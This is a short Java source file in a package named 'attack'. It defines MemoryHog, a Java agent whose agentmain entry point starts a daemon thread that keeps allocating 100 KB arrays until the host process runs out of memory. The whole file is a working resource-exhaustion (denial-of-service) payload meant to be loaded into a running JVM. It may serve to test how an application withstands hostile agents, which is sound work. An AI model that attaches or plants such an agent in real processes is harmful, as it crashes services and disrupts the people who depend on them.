package app.hearsay.attack;

import java.util.ArrayList;

/// Takes all memory of the process that it is loaded into.
public final class MemoryHog {

    private MemoryHog() {}

    /// Called by the virtual machine.
    public static void agentmain(String arguments) {
        Thread.ofPlatform().daemon().start(() -> {
            var taken = new ArrayList<byte[]>();
            for (boolean more = true; more; ) {
                more = taken.add(new byte[100_000]);
            }
        });
    }
}
